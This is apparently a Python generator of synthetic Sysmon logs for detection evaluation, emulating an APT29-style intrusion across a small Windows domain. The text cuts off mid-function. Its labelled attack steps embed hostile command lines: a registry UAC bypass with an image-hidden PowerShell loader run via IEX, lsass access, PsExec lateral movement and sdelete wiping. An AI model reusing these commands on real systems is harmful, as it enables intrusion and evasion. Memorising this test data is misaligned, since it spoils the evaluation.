"""Sysmon events of a small domain as JSON, in the manner of recorded emulations of APT29.

Daily work: what four hosts do by themselves, images, handles, registry, pipes and names. Attacks: a file with its name reversed, a way
round UAC, tools, a service and a shortcut that come back, credentials, another host by WinRM and PsExec, files packed and wiped; on the
second day a shortcut, tools and WMI. Most single events of it (a handle, a connection to port 443) are nothing by themselves. It is not
training material: it was written by a hand that did not know the training scenarios, to see what the model makes of a site that nobody
tuned it for, and what is learned from can no longer tell that.
"""
from __future__ import annotations

import hashlib
from typing import Any, Optional

from .site import Renumber, Site, epoch, iso
from .windows import HANDS_ON, PROGRAMS, Windows

START = epoch(2020, 5, 1, 12)
HOSTS = ["SCRANTON", "NASHUA", "UTICA", "NEWYORK"]
OWNERS = {"SCRANTON": "pbeesly", "NASHUA": "pbeesly", "UTICA": "oscar", "NEWYORK": "mscott"}
ADDRESSES = {"SCRANTON": "10.0.1.4", "NASHUA": "10.0.1.6", "UTICA": "10.0.1.5", "NEWYORK": "10.0.0.4"}
CATEGORIES = {1: "Process Create (rule: ProcessCreate)", 3: "Network connection detected (rule: NetworkConnect)",
              5: "Process terminated (rule: ProcessTerminate)", 7: "Image loaded (rule: ImageLoad)",
              8: "CreateRemoteThread detected (rule: CreateRemoteThread)", 10: "Process accessed (rule: ProcessAccess)",
              11: "File created (rule: FileCreate)", 12: "Registry object added or deleted (rule: RegistryEvent)",
              13: "Registry value set (rule: RegistryEvent)", 17: "Pipe Created (rule: PipeEvent)",
              18: "Pipe Connected (rule: PipeEvent)", 22: "Dns query (rule: DnsQuery)", 23: "File Delete (rule: FileDelete)"}
TITLES = {1: "Process Create", 3: "Network connection detected", 5: "Process terminated", 7: "Image loaded",
          8: "CreateRemoteThread detected", 10: "Process accessed", 11: "File created", 12: "Registry object added or deleted",
          13: "Registry value set", 17: "Pipe Created", 18: "Pipe Connected", 22: "Dns query", 23: "File Delete"}


def utc_text(at: float):
    return iso(at, 3, "").replace("T", " ")


def hashes(label_text) -> str:
    text = hashlib.sha256(label_text.lower().encode()).hexdigest().upper()
    return (f"SHA1={hashlib.sha1(label_text.lower().encode(), usedforsecurity=False).hexdigest().upper()},MD5={text[:32]}"
            f",SHA256={text},IMPHASH={text[10:42]}")


def account(host: str, system):
    return r"NT AUTHORITY\SYSTEM" if system else "DMEVALS\\" + OWNERS[host]


SYSTEM32 = "C:\\Windows\\System32\\"
LIBRARIES = ("ntdll kernel32 KernelBase advapi32 msvcrt sechost rpcrt4 user32 gdi32 combase ole32 shell32 bcrypt crypt32 "
             "wintrust wldp amsi taskschd wbem\\wbemprox wbem\\fastprox wbem\\wmiutils netapi32 samlib cryptdll vaultcli urlmon "
             "winhttp wininet ws2_32 dbghelp dbgcore WinTypes windows.storage propsys profapi clr mscoree mscoreei "
             "bcryptprimitives dpapi rasapi32 credui winscard").split()
KEYS = [(
         r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1830255721-3727074217-2423397540-1107\\Device\HarddiskVolume4\Windows\explorer.exe",
         "Binary Data"), (r"HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime", "QWORD (0x01d61fe1-0x5c2e2f10)"),
        (r"HKU\S-1-5-21-1830255721-3727074217-2423397540-1107\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\Count\HRZR_PGYFRFFVBA",
         "Binary Data"), (r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SecurityHealth",
                          r"%%windir%%\system32\SecurityHealthSystray.exe"),
        (r"HKU\S-1-5-21-1830255721-3727074217-2423397540-1107\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive",
         r'"C:\Users\pbeesly\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background'),
        (r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters\Interfaces\{d2c5b8fe-7ef2-4c60-a2a1-6bbd3ea1e2b5}\LeaseObtainedTime",
         "DWORD (0x5eac9c30)"),
        (r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tasks\{0A4E9E3F-1B62-4E1A-9A59-EEDE3E8E66A2}\DynamicInfo",
         "Binary Data"), (r"HKLM\SOFTWARE\Microsoft\Windows Defender\Scan\DaysUntilAggressiveCatchupQuickScan", "DWORD (0x00000019)"),
        (r"HKLM\System\CurrentControlSet\Services\WinDefend\Start", "DWORD (0x00000002)"),
        (r"HKLM\SOFTWARE\Microsoft\WindowsUpdate\Orchestrator\UsoTimestamp", "Binary Data"),
        (r"HKU\.DEFAULT\Software\Classes\Local Settings\MuiCache\1b7\52C64B7E\LanguageList", "Binary Data"),
        (r"HKLM\SOFTWARE\Microsoft\SystemCertificates\AuthRoot\AutoUpdate\LastSyncTime", "Binary Data"),
        (r"HKLM\System\CurrentControlSet\Control\Lsa\LsaCfgFlagsDefault", "DWORD (0x00000000)")]
NAMES = [("settings-win.data.microsoft.com", "type:  5 settingsfd-geo.trafficmanager.net;::ffff:51.143.111.81;"),
         ("www.google.com", "::ffff:172.217.7.164;"), ("wpad", "-"), ("_ldap._tcp.dc._msdcs.dmevals.local",
    "type:  33 NEWYORK.dmevals.local;::ffff:10.0.0.4;"),
         ("ctldl.windowsupdate.com", "type:  5 audownload.windowsupdate.nsatc.net;::ffff:8.253.95.121;"),
         ("client.wns.windows.com", "::ffff:52.177.166.224;"), ("NEWYORK.dmevals.local", "::ffff:10.0.0.4;"),
         ("v10.events.data.microsoft.com", "::ffff:52.114.128.43;"), ("login.live.com", "::ffff:40.126.28.18;"),
         ("oneclient.sfx.ms", "::ffff:104.123.0.19;"), ("kv801.prod.do.dsp.mp.microsoft.com", "::ffff:20.54.24.69;"),
         ("fonts.gstatic.com", "::ffff:172.217.13.67;"), ("espn.com", "::ffff:13.32.205.71;"),
         ("dundermifflin.sharepoint.com", "::ffff:13.107.136.9;")]
C2 = "192.168.0.5"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
REVERSED = "C:\\ProgramData\\victim\\\u202ecod.3aka3.scr"
RAT = r"C:\Windows\Temp\python.exe"


class SysmonDomain(Site):
    """Sysmon of a domain, as JSON."""

    name = "sysmon_domain"
    host = "SCRANTON.dmevals.local"
    sourcetype = "_json"
    seed = 909
    renumbered = (Renumber(pattern=r'(\"RecordNumber\":)(\d+)(,)', start=97000, step=5, per_host=True),)

    def build(self) -> None:
        self.prepare()
        self.daily()
        self.foothold()
        self.command_and_tools()
        self.persistence()
        self.credentials()
        self.lateral()
        self.collection()
        self.second_day()

    def process_guid(self, host: str) -> str:
        return f"{{{self.guid_heads[host]}-{self.hex(4)}-5eac-{self.hex(4)}-{self.hex(4)}00000000}}"

    def event(self, at: float, host: str, code, fields, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None):
        """One event of Sysmon."""
        self.windows.record += self.rng.randint(1, 4)
        write = [("RuleName", "-"), ("UtcTime", utc_text(at))] + fields
        msg = TITLES[code] + ":\r\n" + "\r\n".join(f"{key}: {value}" for key, value in write)
        entry = {"EventTime": utc_text(at)[:19], "Hostname": host + ".dmevals.local", "Keywords": -9223372036854775808,
                 "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO", "EventID": code, "SourceName": "Microsoft-Windows-Sysmon",
                 "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Version": {1: 5, 3: 5, 5: 3, 7: 3, 8: 2, 10: 3, 11: 2,
            12: 2, 13: 2, 17: 1, 18: 1, 22: 5, 23: 5}[code], "Task": code, "OpcodeValue": 0, "RecordNumber": self.windows.record,
                 "ExecutionProcessID": self.processes[host][0], "ThreadID": self.processes[host][1],
                 "Channel": "Microsoft-Windows-Sysmon/Operational", "Domain": "NT AUTHORITY", "AccountName": "SYSTEM",
                 "UserID": "S-1-5-18", "AccountType": "User", "Message": msg, "Category": CATEGORIES[code], "Opcode": "Info"}
        entry.update({key: str(value) for key, value in write})
        entry.update({"EventReceivedTime": utc_text(at + 1)[:19], "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog",
                      "@version": "1", "host": "wec.internal.cloudapp.net", "@timestamp": iso(at + 2, 3), "port": 60737,
                      "tags": ["mordorDataset"]})
        self.add(at, entry, label, group, technique, host + ".dmevals.local")
        return entry

    def process(self, at: float, host: str, image: str, command: str, parent: str, parent_command=None, system: bool = False, level=None,
                description: str = "-", company: str = "Microsoft Corporation", folder=None, **more: Any):
        file_name = image.split("\\")[-1]
        pid = self.rng.randint(300, 4000) * 4
        self.event(at, host, 1, [("ProcessGuid", self.process_guid(host)), ("ProcessId", pid), ("Image", image),
                                 ("FileVersion",
                                  self.choice(["10.0.18362.1 (WinBuild.160101.0800)",
                                               "10.0.18362.449 (WinBuild.160101.0800)"]) if "Windows" in image else "-"),
                                 ("Description", description if description != "-" else file_name.split(".")[0]),
                                 ("Product", "Microsoft® Windows® Operating System" if "Windows" in image else "-"),
                                 ("Company", company), ("OriginalFileName", file_name), ("CommandLine", command),
                                 ("CurrentDirectory", folder or ("C:\\windows\\system32\\" if system
            else f"C:\\Users\\{OWNERS[host]}\\")), ("User", account(host, system)), ("LogonGuid", self.process_guid(host)),
                                 ("LogonId", "0x3e7" if system else f"0x{self.rng.randint(196608, 9437184):x}"),
                                 ("TerminalSessionId", 0 if system else self.choice([1, 2])),
                                 ("IntegrityLevel", level or ("System" if system else "Medium")), ("Hashes", hashes(file_name)),
                                 ("ParentProcessGuid", self.process_guid(host)), ("ParentProcessId", self.rng.randint(300, 4000) * 4),
                                 ("ParentImage", parent), ("ParentCommandLine", parent_command or parent)], **more)
        return pid

    def connection(self, at: float, host: str, image: str, destination, port, system: bool = False, proto: str = "tcp",
                   destination_host: str = "-", init: str = "true", source_port=None, **more: Any) -> None:
        self.event(at, host, 3, [("ProcessGuid", self.process_guid(host)), ("ProcessId", self.rng.randint(300, 4000) * 4),
                                 ("Image", image), ("User", account(host, system)), ("Protocol", proto), ("Initiated", init),
                                 ("SourceIsIpv6", "false"), ("SourceIp", ADDRESSES[host]), ("SourceHostname", host + ".dmevals.local"),
                                 ("SourcePort", source_port or self.rng.randint(49600, 65500)), ("SourcePortName", "-"),
                                 ("DestinationIsIpv6", "false"), ("DestinationIp", destination),
                                 ("DestinationHostname", destination_host), ("DestinationPort", port),
                                 ("DestinationPortName", {443: "https", 80: "http", 53: "domain", 88: "kerberos", 389: "ldap",
            445: "microsoft-ds", 135: "epmap", 3389: "ms-wbt-server"}.get(port, "-"))], **more)

    def file(self, at: float, host: str, image: str, target, code: int = 11, system: bool = False, **more: Any) -> None:
        self.event(at, host, code, [("ProcessGuid", self.process_guid(host)), ("ProcessId", self.rng.randint(300, 4000) * 4),
                                    ("Image", image), ("TargetFilename", target), ("CreationUtcTime", utc_text(at))], **more)

    def registry(self, at: float, host: str, image: str, target, details=None, kind=None, **more: Any) -> None:
        self.event(at, host, 13 if details is not None else 12,
                   [("EventType", kind or ("SetValue" if details is not None
                                           else self.choice(["CreateKey", "DeleteValue", "DeleteKey"]))),
                    ("ProcessGuid", self.process_guid(host)), ("ProcessId", self.rng.randint(300, 4000) * 4), ("Image", image),
                    ("TargetObject", target)] + ([("Details", details)] if details is not None else []), **more)

    def image_load(self, at: float, host: str, image: str, dll, signed: str = "true", signature: str = "Microsoft Windows",
                   **more: Any) -> None:
        self.event(at, host, 7, [("ProcessGuid", self.process_guid(host)), ("ProcessId", self.rng.randint(300, 4000) * 4),
                                 ("Image", image), ("ImageLoaded", dll),
                                 ("FileVersion", "10.0.18362.1 (WinBuild.160101.0800)" if signed == "true" else "-"),
                                 ("Description", dll.split("\\")[-1]),
                                 ("Product", "Microsoft® Windows® Operating System" if signed == "true" else "-"),
                                 ("Company", "Microsoft Corporation" if signed == "true" else "-"),
                                 ("OriginalFileName", dll.split("\\")[-1]), ("Hashes", hashes(dll)), ("Signed", signed),
                                 ("Signature", signature if signed == "true" else "-"), ("SignatureStatus", "Valid" if signed == "true"
            else "Unavailable")], **more)

    def process_access(self, at: float, host: str, source, target_image, granted,
                       trace: str = r"C:\windows\SYSTEM32\ntdll.dll+9c524|C:\windows\System32\KERNELBASE.dll+2730e|C:\windows\system32\lsm.dll+e959|C:\windows\System32\RPCRT4.dll+76953",
                       **more: Any) -> None:
        self.event(at, host, 10, [("SourceProcessGUID", self.process_guid(host)), ("SourceProcessId", self.rng.randint(300, 4000) * 4),
                                  ("SourceThreadId", self.rng.randint(300, 9000)), ("SourceImage", source),
                                  ("TargetProcessGUID", self.process_guid(host)), ("TargetProcessId", self.rng.randint(300, 4000) * 4),
                                  ("TargetImage", target_image), ("GrantedAccess", granted), ("CallTrace", trace)], **more)

    def pipe(self, at: float, host: str, image: str, pipe_name, code: int = 17, **more: Any) -> None:
        self.event(at, host, code, [("EventType", "CreatePipe" if code == 17 else "ConnectPipe"),
                                    ("ProcessGuid", self.process_guid(host)), ("ProcessId", self.rng.randint(4, 4000) * 4),
                                    ("PipeName", pipe_name), ("Image", image)], **more)

    def query(self, at: float, host: str, image: str, name: str, results, **more: Any) -> None:
        self.event(at, host, 22, [("ProcessGuid", self.process_guid(host)), ("ProcessId", self.rng.randint(300, 4000) * 4),
                                  ("QueryName", name), ("QueryStatus", "0"), ("QueryResults", results), ("Image", image)], **more)

    def step(self, write, *a, technique="T1059", group="step", pause=8, **more: Any) -> None:
        self.at += self.rng.expovariate(1 / pause)
        write(self.at, self.struck_host, *a, label=1, group=group, technique=technique, **more)

    def prepare(self) -> None:
        """Who and what is there."""
        self.windows = Windows(self, "DMEVALS", "dmevals.local")
        self.processes = {host: (self.rng.randint(2000, 3900), self.rng.randint(3000, 5200)) for host in HOSTS}
        self.guid_heads = {host: self.hex(8) for host in HOSTS}
        self.images = [SYSTEM32 + text
                       for text in (
                                    "svchost.exe lsass.exe services.exe taskhostw.exe RuntimeBroker.exe wbem\\WmiPrvSE.exe SearchIndexer.exe "
                                    "dllhost.exe sihost.exe backgroundTaskHost.exe ctfmon.exe spoolsv.exe MoUsoCoreWorker.exe smartscreen.exe").split()] + [r"C:\Windows\explorer.exe",
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r"C:\WindowsAzure\GuestAgent_2.7.41491.971_2020-04-30_225624\WindowsAzureGuestAgent.exe",
            r"C:\WindowsAzure\Packages\WaAppAgent.exe", r"C:\ProgramData\Microsoft\Windows Defender\platform\4.18.2004.6-0\MsMpEng.exe",
            r"C:\Users\%U\AppData\Local\Microsoft\OneDrive\OneDrive.exe", r"C:\Program Files\nxlog\nxlog.exe",
            r"C:\Packages\Plugins\Microsoft.Compute.BGInfo\2.1\BGInfo.exe"]
        self.files = [f"C:\\Windows\\Prefetch\\{label_text}.EXE-{self.rng.getrandbits(32):X}.pf"
                      for label_text in "SVCHOST TASKHOSTW CONHOST CHROME POWERSHELL WMIPRVSE DLLHOST BACKGROUNDTASKHOST ONEDRIVE NOTEPAD".split()] + [
            r"C:\Users\%U\AppData\Local\Google\Chrome\User Data\Default\Cache\f_0001a3",
            r"C:\Users\%U\AppData\Roaming\Microsoft\Windows\Recent\AutomaticDestinations\f01b4d95cf55d32a.automaticDestinations-ms",
            r"C:\Windows\Temp\__PSScriptPolicyTest_ou0gjmxj.qny.ps1", r"C:\Users\%U\AppData\Local\Temp\~DF9C0C5B3A8B.TMP",
            r"C:\ProgramData\Microsoft\Windows Defender\Scans\mpcache-0F8B.bin",
            r"C:\Users\%U\AppData\Local\Microsoft\OneDrive\logs\Personal\SyncEngine-2020-05-01.1603.odl",
            r"C:\Windows\SoftwareDistribution\Download\a1e7\BIT5C2A.tmp",
            r"C:\WindowsAzure\Logs\AggregateStatus\aggregatestatus_20200501.json",
              r"C:\Windows\ServiceProfiles\LocalService\AppData\Local\lastalive0.dat",
              r"C:\Users\%U\Downloads\Unconfirmed 482019.crdownload", r"C:\Users\%U\Documents\dunder sales Q1.xlsx",
              r"C:\Users\%U\Desktop\notes.txt"]

    def daily(self) -> None:
        """What four hosts do by themselves."""
        for _ in range(1700):
            at = START + self.rng.random() * 6 * 3600
            host = self.choice(HOSTS)
            draw = self.rng.randrange(100)
            user = OWNERS[host]
            image_name = self.choice(self.images).replace("%U", user)
            if draw < 9:
                i, c, pipe_name = [text.replace("%U", user).replace("CORP", "DMEVALS") for text in self.choice(PROGRAMS)]
                self.process(at, host, i, c, pipe_name, system=any(z in pipe_name for z in ("services.exe", "svchost", "CCM",
                    "HealthService", "Splunk", "SearchIndexer", "winlogon", "SenseIR")))
            elif draw < 13:
                self.event(at, host, 5, [("ProcessGuid", self.process_guid(host)), ("ProcessId", self.rng.randint(300, 4000) * 4),
                                         ("Image", self.choice(PROGRAMS)[0].replace("%U", user) if self.rng.random() < 0.5
                                          else image_name)])
            elif draw < 35:
                self.image_load(at, host, image_name if self.rng.random() < 0.6 else self.choice(PROGRAMS)[0].replace("%U", user),
                                f"C:\\Windows\\System32\\{self.choice(LIBRARIES)}.dll")
            elif draw < 53:
                source = image_name
                self.process_access(at, host, source,
                                    self.choice([SYSTEM32 + "svchost.exe", SYSTEM32 + "lsass.exe", SYSTEM32 + "csrss.exe",
                    r"C:\Windows\explorer.exe", SYSTEM32 + "services.exe"] + self.images[-6:]).replace("%U", user),
                                    self.choice(["0x1000", "0x1400", "0x3000", "0x1fffff", "0x1478", "0x101541", "0x1410", "0x40",
                    "0x2000"]))
            elif draw < 62:
                self.registry(at, host, image_name, *self.choice(KEYS))
            elif draw < 76:
                self.registry(at, host, image_name,
                              self.choice([
                                           r"HKU\S-1-5-21-1830255721-3727074217-2423397540-1107\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ZoneMap\ProxyBypass",
                                           r"HKLM\SOFTWARE\Microsoft\Tracing\svchost_RASAPI32",
                                           r"HKLM\System\CurrentControlSet\Services\SharedAccess\Epoch",
                                           r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Group Policy\DataStore\Machine",
                                           r"HKLM\SOFTWARE\Microsoft\SystemCertificates\Disallowed\Certificates",
                                           r"HKU\S-1-5-20\Software\Microsoft\SystemCertificates\Root\CTLs",
                                           r"HKLM\SOFTWARE\Policies\Microsoft\Windows\Safer",
                                           r"HKLM\System\CurrentControlSet\Enum\SWD\MMDEVAPI",
                                           r"HKLM\SOFTWARE\Microsoft\AMSI\Providers",
                                           r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters"]))
            elif draw < 83:
                self.file(at, host, image_name, self.choice(self.files).replace("%U", user), self.weighted([(11, 5), (23, 1)]))
            elif draw < 91:
                i, library, pipe_name, s = self.choice([(self.images[0], "51.143.111.81", 443, True),
                    (self.images[1], "10.0.0.4", 88, True), (self.images[1], "10.0.0.4", 389, True),
                    (self.images[0], "10.0.0.4", 53, True), ("System", "10.0.0.4", 445, True), (self.images[15], "172.217.7.164", 443,
                    False), (self.images[16], "168.63.129.16", 80, True), (self.images[16], "168.63.129.16", 32526, True),
                    (self.images[0], "10.0.0.4", 135, True), (r"C:\Program Files\nxlog\nxlog.exe", "10.0.0.9", 5514, True),
                    (self.images[0], "239.255.255.250", 1900, True)])
                self.connection(at, host, i, library, pipe_name, s, "udp" if pipe_name in (53, 1900) else "tcp")
            elif draw < 95:
                self.pipe(at, host, self.choice(["System", image_name]),
                          self.choice([r"\srvsvc", r"\wkssvc", r"\lsass", r"\PIPE_EVENTROOT\CIMV2SCM EVENT PROVIDER",
                                       f"\\mojo.{self.rng.randint(1000, 9999)}.{self.rng.randint(1000, 9999)}.{self.rng.getrandbits(60)}",
                                       f"\\PSHost.13232838{self.digits(10)}.{self.rng.randint(1000, 9999)}.DefaultAppDomain.powershell",
                                       r"\TSVCPIPE-" + self.uuid(), r"\ntsvcs", r"\atsvc", r"\spoolss"]), self.choice([17, 18]))
            else:
                self.query(at, host, image_name, *self.choice(NAMES))

    def foothold(self) -> None:
        """A screen saver with its name reversed, a shell, a way round UAC."""
        self.struck_host = "SCRANTON"
        self.at = START + 2.7 * 3600
        self.step(self.process, REVERSED, f"\"{REVERSED}\" /S", r"C:\Windows\explorer.exe", description="-", company="-",
                  group="initial_rtlo", technique="T1036.002")
        self.step(self.connection, REVERSED, C2, 1234, group="initial_rtlo", technique="T1571")
        self.step(self.process, SYSTEM32 + "cmd.exe", r'"C:\windows\system32\cmd.exe"', REVERSED, group="initial_rtlo",
                  technique="T1059.003")
        self.step(self.process, POWERSHELL, "powershell", SYSTEM32 + "cmd.exe", r'"C:\windows\system32\cmd.exe"', group="initial_rtlo",
                  technique="T1059.001")
        for library in ["amsi", "clr", "winhttp", "System.Management.Automation.ni"]:
            self.step(self.image_load, POWERSHELL if library != "winhttp" else REVERSED, f"C:\\Windows\\System32\\{library}.dll",
                      group="initial_rtlo", technique="T1059.001", pause=0.1)
        for write in [r"C:\Users\pbeesly\AppData\Roaming\Draft.Zip"]:
            self.step(self.file, POWERSHELL, write, group="collection_zip", technique="T1560.001")
        self.step(self.file, REVERSED, r"C:\Users\pbeesly\Downloads\monkey.png", group="uac_bypass", technique="T1027.003")
        self.step(self.registry, POWERSHELL,
                  r"HKU\S-1-5-21-1830255721-3727074217-2423397540-1107_Classes\Folder\shell\open\command\(Default)",
                  "powershell.exe -noni -noexit -ep bypass -window hidden -c \"sal a New-Object;Add-Type -AssemblyName 'System.Drawing'; $g=a System.Drawing.Bitmap('C:\\Users\\pbeesly\\Downloads\\monkey.png');$o=a Byte[] 4480;for($i=0; $i -le 6; $i++){foreach($x in(0..639)){$p=$g.GetPixel($x,$i);$o[$i*640+$x]=([math]::Floor(($p.B-band15)*16)-bor($p.G-band15))}};$g.Dispose();IEX([System.Text.Encoding]::ASCII.GetString($o[0..3932]))\"",
                  group="uac_bypass", technique="T1548.002")
        self.step(self.registry, POWERSHELL,
                  r"HKU\S-1-5-21-1830255721-3727074217-2423397540-1107_Classes\Folder\shell\open\command\DelegateExecute", "(Empty)",
                  group="uac_bypass", technique="T1548.002")
        self.step(self.process, SYSTEM32 + "sdclt.exe", r'"C:\windows\system32\sdclt.exe"', POWERSHELL, "powershell",
                  group="uac_bypass", technique="T1548.002")
        self.step(self.process, SYSTEM32 + "control.exe", r'"C:\Windows\System32\control.exe" /name Microsoft.BackupAndRestoreCenter',
                  SYSTEM32 + "sdclt.exe", level="High", group="uac_bypass", technique="T1548.002")
        self.step(self.process, POWERSHELL,
                  "\"PowerShell.exe\" -noni -noexit -ep bypass -window hidden -c \"sal a New-Object;Add-Type -AssemblyName 'System.Drawing'; $g=a System.Drawing.Bitmap('C:\\Users\\pbeesly\\Downloads\\monkey.png')\"",
                  SYSTEM32 + "control.exe", level="High", group="uac_bypass", technique="T1548.002")
        self.step(self.registry, POWERSHELL, r"HKU\S-1-5-21-1830255721-3727074217-2423397540-1107_Classes\Folder\shell\open\command",
                  kind="DeleteKey", group="uac_bypass", technique="T1112")

    def command_and_tools(self) -> None:
        """The way home; tools come, and are wiped."""
        for _ in range(16):
            self.step(self.connection, POWERSHELL, C2, 443, group="c2_https", technique="T1071.001", pause=60)
        self.step(self.process, SYSTEM32 + "conhost.exe", r"\??\C:\windows\system32\conhost.exe 0xffffffff -ForceV1", POWERSHELL,
                  group="discovery", technique="T1059.001")
        for write in ["SysinternalsSuite.zip", r"SysinternalsSuite\PsExec64.exe", r"SysinternalsSuite\sdelete64.exe",
                      r"SysinternalsSuite\accesschk.exe", r"SysinternalsSuite\psversion.txt", r"SysinternalsSuite\readme.ps1",
                      r"SysinternalsSuite\m.exe", r"SysinternalsSuite\loot.zip"]:
            self.step(self.file, POWERSHELL, "C:\\Program Files\\" + write if self.rng.random() < 0.7
                      else "C:\\Users\\pbeesly\\Downloads\\" + write, group="tool_transfer", technique="T1105", pause=1)
        for write in ["Draft.Zip", "\u202ecod.3aka3.scr", "SysinternalsSuite.zip"]:
            self.step(self.process, r"C:\Program Files\SysinternalsSuite\sdelete64.exe",
                      "\"C:\\Program Files\\SysinternalsSuite\\sdelete64.exe\" /accepteula \"C:\\Users\\pbeesly\\AppData\\Roaming\\"
                      f"{write}\"", POWERSHELL, company="Sysinternals - www.sysinternals.com", level="High", group="sdelete",
                      technique="T1070.004")
            self.step(self.file, r"C:\Program Files\SysinternalsSuite\sdelete64.exe", "C:\\Users\\pbeesly\\AppData\\Roaming\\"
                      + "Z" * 12, 23, group="sdelete", technique="T1070.004", pause=0.1)
        for library in ["netapi32", "samlib", "vaultcli", r"wbem\wbemprox"]:
            self.step(self.image_load, POWERSHELL, f"C:\\Windows\\System32\\{library}.dll", group="discovery", technique="T1087",
                      pause=0.2)
        self.step(self.process, SYSTEM32 + "sc.exe", "sc.exe query", POWERSHELL, group="discovery", technique="T1007")
        self.step(self.process, SYSTEM32 + "whoami.exe", r'"C:\windows\system32\whoami.exe"', POWERSHELL, level="High",
                  group="discovery", technique="T1033")

    def persistence(self) -> None:
        """A service and a shortcut that come back."""
        self.step(self.registry, SYSTEM32 + "services.exe", r"HKLM\System\CurrentControlSet\Services\javamtsup\ImagePath",
                  r"C:\Windows\System32\javamtsup.exe", group="service_persistence", technique="T1543.003")
        self.step(self.registry, SYSTEM32 + "services.exe", r"HKLM\System\CurrentControlSet\Services\javamtsup\Start",
                  "DWORD (0x00000002)", group="service_persistence", technique="T1543.003")
        self.step(self.file, POWERSHELL, r"C:\Windows\System32\javamtsup.exe", group="service_persistence", technique="T1543.003")
        self.step(self.file, POWERSHELL, r"C:\Users\pbeesly\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\StartUp\hostui.lnk",
                  group="startup_persistence", technique="T1547.001")

    def credentials(self) -> None:
        """Credentials, from files and from memory."""
        self.step(self.process, r"C:\Program Files\SysinternalsSuite\accesschk.exe",
                  r'"C:\Program Files\SysinternalsSuite\accesschk.exe"', POWERSHELL, description="chrome passwords", company="-",
                  level="High", group="cred_access", technique="T1555.003")
        self.step(self.file, POWERSHELL, r"C:\Users\pbeesly\Downloads\pfx\$RandomFileName.pfx", group="cred_access",
                  technique="T1552.004")
        for granted in ["0x1010", "0x1fffff", "0x1410", "0x1438"]:
            self.step(self.process_access, POWERSHELL, SYSTEM32 + "lsass.exe", granted,
                      trace=r"C:\windows\SYSTEM32\ntdll.dll+9c584|C:\windows\System32\KERNELBASE.dll+2730e|UNKNOWN(000001F0B8A31A42)",
                      group="lsass_access", technique="T1003.001")
        self.step(self.event, 8, [("SourceProcessGuid", self.process_guid(self.struck_host)), ("SourceProcessId", 3852),
                                  ("SourceImage", POWERSHELL), ("TargetProcessGuid", self.process_guid(self.struck_host)),
                                  ("TargetProcessId", 700), ("TargetImage", SYSTEM32 + "lsass.exe"), ("NewThreadId", 5212),
                                  ("StartAddress", "0x000001F6A1C30000"), ("StartModule", "-"), ("StartFunction", "-")],
                  group="lsass_access", technique="T1055")

    def lateral(self) -> None:
        """Another host, by WinRM and PsExec."""
        for _ in range(6):
            self.step(self.connection, POWERSHELL, "10.0.0.4", 389, group="ldap_discovery", technique="T1018", pause=3)
        for _ in range(4):
            self.step(self.connection, POWERSHELL, "10.0.1.6", 5985, group="lateral_winrm", technique="T1021.006", pause=3)
        self.struck_host = "NASHUA"
        self.step(self.process, SYSTEM32 + "wsmprovhost.exe", r"C:\windows\system32\wsmprovhost.exe -Embedding",
                  SYSTEM32 + "svchost.exe", r"C:\windows\system32\svchost.exe -k DcomLaunch -p", level="High", group="lateral_winrm",
                  technique="T1021.006")
        self.step(self.connection, "System", "10.0.1.4", 445, system=True, init="false", group="lateral_psexec", technique="T1021.002")
        self.step(self.file, "System", r"C:\Windows\PSEXESVC.exe", group="lateral_psexec", technique="T1569.002")
        self.step(self.process, r"C:\Windows\PSEXESVC.exe", r"C:\windows\PSEXESVC.exe", SYSTEM32 + "services.exe", system=True,
                  company="Sysinternals", group="lateral_psexec", technique="T1569.002")
        for text in ("", "-SCRANTON-7028-stdin", "-SCRANTON-7028-stdout", "-SCRANTON-7028-stderr"):
            self.step(self.pipe, r"C:\Windows\PSEXESVC.exe", r"\PSEXESVC" + text, group="lateral_psexec", technique="T1569.002",
                      pause=0.1)

    def collection(self) -> None:
        """Files are packed, and traces wiped."""
        self.step(self.file, "System", RAT, group="lateral_psexec", technique="T1570")
        self.step(self.process, RAT, '"python.exe"', r"C:\Windows\PSEXESVC.exe", company="-", group="rat_nashua", technique="T1059.006")
        for _ in range(14):
            self.step(self.connection, RAT, C2, 8443, group="rat_nashua", technique="T1571", pause=45)
        self.step(self.process, r"C:\Windows\Temp\Rar.exe",
                  r'"C:\Windows\Temp\Rar.exe" a -hpfGzq5yKw "C:\Users\pbeesly\Desktop\working.zip" "C:\Users\pbeesly\Documents\"',
                  POWERSHELL, company="Alexander Roshal", group="exfil", technique="T1560.001")
        self.step(self.file, r"C:\Windows\Temp\Rar.exe", r"C:\Users\pbeesly\Desktop\working.zip", group="exfil", technique="T1074")
        for write in ["Rar.exe", "working.zip", "sdelete64.exe"]:
            self.step(self.process, r"C:\Windows\Temp\sdelete64.exe",
                      f"\"C:\\Windows\\Temp\\sdelete64.exe\" /accepteula C:\\Windows\\Temp\\{write}", SYSTEM32 + "cmd.exe",
                      company="Sysinternals - www.sysinternals.com", group="sdelete", technique="T1070.004")

    def second_day(self) -> None:
        """A shortcut on another host, tools and WMI."""
        self.struck_host = "UTICA"
        self.at = START + 4.6 * 3600
        self.step(self.process, POWERSHELL,
                  "\"PowerShell.exe\" -c \"if(((gwmi win32_bios).SerialNumber).ToLower().Contains('0')){exit};gci -path $env:userprofile -filter *.lnk|iex\"",
                  r"C:\Windows\explorer.exe", group="day2_lnk", technique="T1204.002")
        self.step(self.file, POWERSHELL, r"C:\Users\oscar\AppData\Roaming\Microsoft\kxwn.lock", group="day2_lnk", technique="T1105")
        self.step(self.registry, POWERSHELL,
